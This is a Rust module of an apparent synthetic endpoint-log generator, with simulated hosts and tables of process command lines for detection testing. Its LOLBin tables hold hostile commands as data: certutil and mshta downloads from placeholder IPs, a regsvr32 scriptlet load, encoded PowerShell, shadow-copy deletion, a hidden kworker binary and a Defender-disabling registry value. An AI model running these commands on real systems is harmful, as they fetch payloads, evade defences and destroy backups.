//! The generator's building blocks: a seeded PRNG, hosts, the tables of realistic names,
//! paths and command lines, and small JSON/time formatting helpers.

use std::fmt::Write as _;

/// SplitMix64: tiny, fast and identical on every platform, so a seed always gives one stream.
pub struct Rng(u64);

impl Rng {
    pub fn new(seed: u64) -> Rng {
        Rng(seed ^ 0x5DEE_CE66_D1CE_4E5B)
    }

    pub fn next(&mut self) -> u64 {
        self.0 = self.0.wrapping_add(0x9E37_79B9_7F4A_7C15);
        let mut z = self.0;
        z = (z ^ (z >> 30)).wrapping_mul(0xBF58_476D_1CE4_E5B9);
        z = (z ^ (z >> 27)).wrapping_mul(0x94D0_49BB_1331_11EB);
        z ^ (z >> 31)
    }

    /// Uniform in `0..n` (`n` > 0; 0 gives 0).
    pub fn below(&mut self, n: u64) -> u64 {
        if n == 0 {
            return 0;
        }
        ((u128::from(self.next()) * u128::from(n)) >> 64) as u64
    }

    pub fn pick<'a, T>(&mut self, items: &'a [T]) -> &'a T {
        &items[self.below(items.len() as u64) as usize]
    }

    pub fn hex(&mut self, digits: usize) -> String {
        let mut s = String::with_capacity(digits);
        while s.len() < digits {
            let _ = write!(s, "{:016x}", self.next());
        }
        s.truncate(digits);
        s
    }

    /// A routable IPv4 address (never loopback, link-local or multicast).
    pub fn public_ip(&mut self) -> String {
        let first = *self.pick(&[13u64, 20, 34, 52, 91, 104, 142, 185, 198, 203]);
        format!(
            "{first}.{}.{}.{}",
            self.below(256),
            self.below(256),
            1 + self.below(254)
        )
    }

    pub fn ipv6(&mut self) -> String {
        format!(
            "2001:db8:{:x}:{:x}::{:x}",
            self.below(0x10000),
            self.below(0x10000),
            1 + self.below(0xfffe)
        )
    }
}

#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum Os {
    Linux,
    Windows,
    Mac,
}

/// One simulated endpoint.
pub struct Host {
    pub os: Os,
    pub id: String,
    pub agent: String,
    pub name: String,
    pub ip: String,
    pub ip6: String,
    pub user: &'static str,
    pub uid: String,
}

const USERS: [&str; 8] = [
    "alice",
    "bob",
    "carol",
    "dave",
    "j.doe",
    "svc_backup",
    "root",
    "admin",
];

impl Host {
    pub fn new(i: usize, rng: &mut Rng) -> Host {
        let os = match i % 10 {
            0..=4 => Os::Linux,
            5..=8 => Os::Windows,
            _ => Os::Mac,
        };
        let uuid = |rng: &mut Rng| {
            let h = rng.hex(32);
            format!(
                "{}-{}-{}-{}-{}",
                &h[..8],
                &h[8..12],
                &h[12..16],
                &h[16..20],
                &h[20..]
            )
        };
        let prefix = match os {
            Os::Linux => "srv",
            Os::Windows => "WKS",
            Os::Mac => "mbp",
        };
        let user = *rng.pick(&USERS);
        Host {
            os,
            id: uuid(rng),
            agent: uuid(rng),
            name: format!("{prefix}-{i:03}"),
            ip: format!("10.{}.{}.{}", i / 64, i % 64 + 1, 10 + rng.below(200)),
            ip6: format!("fe80::{:x}:{:x}", rng.below(0x10000), rng.below(0x10000)),
            user,
            uid: match os {
                Os::Windows => format!("S-1-5-21-1004336348-1177238915-6820033-{}", 1100 + i),
                _ => (1000 + i).to_string(),
            },
        }
    }

    pub fn home(&self) -> &'static str {
        match self.os {
            Os::Linux => "/home/user",
            Os::Windows => "C:\\Users\\user",
            Os::Mac => "/Users/user",
        }
    }

    /// The `host` and `agent` objects, each followed by a comma.
    pub fn write(&self, s: &mut String) {
        let (ty, family, name, version) = match self.os {
            Os::Linux => ("linux", "ubuntu", "Ubuntu", "22.04.4"),
            Os::Windows => ("windows", "windows", "Windows", "22H2"),
            Os::Mac => ("macos", "macos", "macOS", "14.4.1"),
        };
        let _ = write!(
            s,
            r#""host":{{"id":"{}","name":"{}","hostname":"{}","architecture":"x86_64","ip":["{}","{}"],"os":{{"type":"{ty}","family":"{family}","name":"{name}","version":"{version}","platform":"{family}"}}}},"agent":{{"type":"endpoint","id":"{}","version":"8.13.2"}},"#,
            self.id, self.name, self.name, self.ip, self.ip6, self.agent
        );
    }
}

/// (name, executable, args, parent name, parent args)
pub type ProcShape = (String, String, Vec<String>, String, Vec<String>);

const LINUX_PROCS: [(&str, &str, &str); 14] = [
    ("sshd", "/usr/sbin/sshd", "sshd: alice [priv]"),
    ("cron", "/usr/sbin/cron", "/usr/sbin/cron -f"),
    (
        "bash",
        "/usr/bin/bash",
        "bash -c /opt/app/bin/healthcheck.sh",
    ),
    (
        "python3",
        "/usr/bin/python3",
        "python3 /opt/app/worker.py --queue default",
    ),
    (
        "curl",
        "/usr/bin/curl",
        "curl -s https://updates.example.com/v1/check",
    ),
    ("apt-get", "/usr/bin/apt-get", "apt-get -qq update"),
    ("sudo", "/usr/bin/sudo", "sudo systemctl restart nginx"),
    ("systemctl", "/usr/bin/systemctl", "systemctl status nginx"),
    ("ls", "/usr/bin/ls", "ls -la /var/log"),
    ("grep", "/usr/bin/grep", "grep -r error /var/log/nginx"),
    ("nginx", "/usr/sbin/nginx", "nginx -g daemon off;"),
    (
        "java",
        "/usr/bin/java",
        "java -Xmx2g -jar /opt/app/service.jar",
    ),
    ("sh", "/usr/bin/sh", "sh -c uptime"),
    ("docker", "/usr/bin/docker", "docker ps --format {{.Names}}"),
];

const WINDOWS_PROCS: [(&str, &str, &str); 10] = [
    (
        "svchost.exe",
        "C:\\Windows\\System32\\svchost.exe",
        "C:\\Windows\\system32\\svchost.exe -k netsvcs -p -s Schedule",
    ),
    (
        "explorer.exe",
        "C:\\Windows\\explorer.exe",
        "C:\\Windows\\Explorer.EXE",
    ),
    (
        "chrome.exe",
        "C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe",
        "\"C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe\" --type=renderer",
    ),
    (
        "cmd.exe",
        "C:\\Windows\\System32\\cmd.exe",
        "cmd.exe /c echo ok",
    ),
    (
        "powershell.exe",
        "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe",
        "powershell.exe -NoProfile -Command Get-Service",
    ),
    (
        "conhost.exe",
        "C:\\Windows\\System32\\conhost.exe",
        "\\??\\C:\\Windows\\system32\\conhost.exe 0xffffffff -ForceV1",
    ),
    (
        "MsMpEng.exe",
        "C:\\ProgramData\\Microsoft\\Windows Defender\\Platform\\4.18.24030.9-0\\MsMpEng.exe",
        "MsMpEng.exe",
    ),
    (
        "OUTLOOK.EXE",
        "C:\\Program Files\\Microsoft Office\\root\\Office16\\OUTLOOK.EXE",
        "\"C:\\Program Files\\Microsoft Office\\root\\Office16\\OUTLOOK.EXE\"",
    ),
    (
        "taskhostw.exe",
        "C:\\Windows\\System32\\taskhostw.exe",
        "taskhostw.exe",
    ),
    (
        "rundll32.exe",
        "C:\\Windows\\System32\\rundll32.exe",
        "rundll32.exe shell32.dll,Control_RunDLL",
    ),
];

const MAC_PROCS: [(&str, &str, &str); 5] = [
    ("launchd", "/sbin/launchd", "/sbin/launchd"),
    ("zsh", "/bin/zsh", "-zsh"),
    (
        "mdworker_shared",
        "/System/Library/Frameworks/CoreServices.framework/mdworker_shared",
        "mdworker_shared -s mdworker",
    ),
    (
        "osascript",
        "/usr/bin/osascript",
        "osascript -e display notification",
    ),
    (
        "softwareupdate",
        "/usr/sbin/softwareupdate",
        "softwareupdate -l",
    ),
];

/// Command lines that real rules look for (LOLBins, encoded PowerShell, downloads).
const WINDOWS_LOLBINS: [(&str, &str, &str, &str); 5] = [
    ("certutil.exe", "C:\\Windows\\System32\\certutil.exe", "certutil.exe -urlcache -split -f http://203.0.113.7/a.exe C:\\Users\\Public\\a.exe", "cmd.exe"),
    ("powershell.exe", "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe", "powershell.exe -NoProfile -ExecutionPolicy Bypass -EncodedCommand SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAKQA=", "WINWORD.EXE"),
    ("mshta.exe", "C:\\Windows\\System32\\mshta.exe", "mshta.exe http://198.51.100.4/run.hta", "explorer.exe"),
    ("regsvr32.exe", "C:\\Windows\\System32\\regsvr32.exe", "regsvr32.exe /s /n /u /i:http://198.51.100.4/file.sct scrobj.dll", "cmd.exe"),
    ("vssadmin.exe", "C:\\Windows\\System32\\vssadmin.exe", "vssadmin.exe delete shadows /all /quiet", "cmd.exe"),
];

const LINUX_LOLBINS: [(&str, &str, &str, &str); 4] = [
    (
        "chmod",
        "/usr/bin/chmod",
        "chmod +x /tmp/.x/kworker",
        "bash",
    ),
    ("crontab", "/usr/bin/crontab", "crontab -l", "bash"),
    (
        "base64",
        "/usr/bin/base64",
        "base64 -d /tmp/payload.b64",
        "bash",
    ),
    ("nohup", "/usr/bin/nohup", "nohup /tmp/.x/kworker", "sh"),
];

/// The name tables; stateless.
#[derive(Default)]
pub struct Tables;

fn words(cmd: &str) -> Vec<String> {
    cmd.split(' ').map(str::to_string).collect()
}

impl Tables {
    pub fn process(&self, os: Os, rng: &mut Rng) -> ProcShape {
        let (name, exe, cmd) = match os {
            Os::Linux => *rng.pick(&LINUX_PROCS),
            Os::Windows => *rng.pick(&WINDOWS_PROCS),
            Os::Mac => *rng.pick(&MAC_PROCS),
        };
        let parent = match os {
            Os::Linux => *rng.pick(&["bash", "systemd", "sshd", "cron", "containerd-shim"]),
            Os::Windows => *rng.pick(&["explorer.exe", "services.exe", "svchost.exe", "cmd.exe"]),
            Os::Mac => *rng.pick(&["launchd", "zsh", "Terminal"]),
        };
        (
            name.into(),
            exe.into(),
            words(cmd),
            parent.into(),
            vec![parent.into()],
        )
    }

    pub fn lolbin(&self, os: Os, rng: &mut Rng) -> ProcShape {
        let (name, exe, cmd, parent) = match os {
            Os::Windows => *rng.pick(&WINDOWS_LOLBINS),
            _ => *rng.pick(&LINUX_LOLBINS),
        };
        (
            name.into(),
            exe.into(),
            words(cmd),
            parent.into(),
            vec![parent.into()],
        )
    }

    pub fn net_process(&self, os: Os, rng: &mut Rng) -> String {
        match os {
            Os::Linux => *rng.pick(&[
                "curl",
                "nginx",
                "sshd",
                "java",
                "python3",
                "systemd-resolved",
            ]),
            Os::Windows => *rng.pick(&["chrome.exe", "svchost.exe", "OUTLOOK.EXE", "Teams.exe"]),
            Os::Mac => *rng.pick(&["Safari", "mDNSResponder", "Slack"]),
        }
        .into()
    }

    /// (file path, process name)
    pub fn file(&self, os: Os, rng: &mut Rng) -> (String, String) {
        let n = rng.below(10_000);
        match os {
            Os::Windows => {
                let dir = *rng.pick(&[
                    "C:\\Users\\user\\AppData\\Local\\Temp",
                    "C:\\Windows\\Temp",
                    "C:\\Users\\user\\Downloads",
                    "C:\\ProgramData\\Microsoft\\Windows\\Start Menu\\Programs\\Startup",
                ]);
                let ext = *rng.pick(&["tmp", "log", "dll", "exe", "ps1", "lnk"]);
                let p = *rng.pick(&["explorer.exe", "chrome.exe", "powershell.exe"]);
                (format!("{dir}\\f{n}.{ext}"), p.into())
            }
            _ => {
                let dir = *rng.pick(&[
                    "/tmp",
                    "/var/log/nginx",
                    "/home/user/.cache",
                    "/etc/cron.d",
                    "/dev/shm",
                ]);
                let ext = *rng.pick(&["log", "tmp", "sh", "conf", "py"]);
                let p = *rng.pick(&["bash", "python3", "nginx", "cron"]);
                (format!("{dir}/f{n}.{ext}"), p.into())
            }
        }
    }

    /// (key, value name, data)
    pub fn registry(&self, rng: &mut Rng) -> (String, String, String) {
        let (key, value, data) = *rng.pick(&[
            ("SOFTWARE\\Microsoft\\Windows\\CurrentVersion\\Run", "OneDrive", "\"C:\\Users\\user\\AppData\\Local\\Microsoft\\OneDrive\\OneDrive.exe\" /background"),
            ("SYSTEM\\CurrentControlSet\\Services\\W32Time\\Parameters", "NtpServer", "time.windows.com,0x9"),
            ("SOFTWARE\\Policies\\Microsoft\\Windows Defender", "DisableAntiSpyware", "1"),
            ("SOFTWARE\\Microsoft\\Windows NT\\CurrentVersion\\Winlogon", "Shell", "explorer.exe"),
        ]);
        (key.into(), value.into(), data.into())
    }

    /// (library path, process name)
    pub fn library(&self, os: Os, rng: &mut Rng) -> (String, String) {
        match os {
            Os::Windows => {
                let dll = *rng.pick(&[
                    "ntdll.dll",
                    "kernel32.dll",
                    "amsi.dll",
                    "wininet.dll",
                    "vaultcli.dll",
                ]);
                let p = *rng.pick(&["powershell.exe", "svchost.exe", "chrome.exe"]);
                (format!("C:\\Windows\\System32\\{dll}"), p.into())
            }
            _ => {
                let so = *rng.pick(&["libc.so.6", "libssl.so.3", "libpam.so.0", "libcrypto.so.3"]);
                let p = *rng.pick(&["sshd", "nginx", "python3"]);
                (format!("/usr/lib/x86_64-linux-gnu/{so}"), p.into())
            }
        }
    }

    pub fn domain(&self, rng: &mut Rng) -> String {
        let d = *rng.pick(&[
            "updates.example.com",
            "login.microsoftonline.com",
            "api.github.com",
            "pastebin.com",
            "cdn.jsdelivr.net",
            "ntp.ubuntu.com",
        ]);
        d.into()
    }
}

/// `s` as a JSON string literal.
pub fn json_str(out: &mut String, s: &str) {
    out.push('"');
    for c in s.chars() {
        match c {
            '"' => out.push_str("\\\""),
            '\\' => out.push_str("\\\\"),
            c if (c as u32) < 0x20 => {
                let _ = write!(out, "\\u{:04x}", c as u32);
            }
            c => out.push(c),
        }
    }
    out.push('"');
}

pub fn json_list(out: &mut String, items: &[String]) {
    out.push('[');
    for (i, it) in items.iter().enumerate() {
        if i > 0 {
            out.push(',');
        }
        json_str(out, it);
    }
    out.push(']');
}

/// Standard base64 of `s` (entity ids look like this in Elastic Defend).
pub fn b64(s: &str) -> String {
    const A: &[u8; 64] = b"ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/";
    let b = s.as_bytes();
    let mut out = String::with_capacity(b.len().div_ceil(3) * 4);
    for c in b.chunks(3) {
        let n = (u32::from(c[0]) << 16)
            | (u32::from(*c.get(1).unwrap_or(&0)) << 8)
            | u32::from(*c.get(2).unwrap_or(&0));
        for k in 0..4 {
            if k <= c.len() {
                out.push(A[(n >> (18 - 6 * k)) as usize & 63] as char);
            } else {
                out.push('=');
            }
        }
    }
    out
}

/// Epoch milliseconds as `YYYY-MM-DDTHH:MM:SS.mmmZ` (proleptic Gregorian, UTC).
pub fn iso(ms: i64) -> String {
    let days = ms.div_euclid(86_400_000);
    let rem = ms.rem_euclid(86_400_000);
    // Howard Hinnant's civil_from_days.
    let z = days + 719_468;
    let era = z.div_euclid(146_097);
    let doe = z.rem_euclid(146_097);
    let yoe = (doe - doe / 1460 + doe / 36_524 - doe / 146_096) / 365;
    let doy = doe - (365 * yoe + yoe / 4 - yoe / 100);
    let mp = (5 * doy + 2) / 153;
    let d = doy - (153 * mp + 2) / 5 + 1;
    let m = if mp < 10 { mp + 3 } else { mp - 9 };
    let y = yoe + era * 400 + i64::from(m <= 2);
    format!(
        "{y:04}-{m:02}-{d:02}T{:02}:{:02}:{:02}.{:03}Z",
        rem / 3_600_000,
        rem / 60_000 % 60,
        rem / 1000 % 60,
        rem % 1000
    )
}
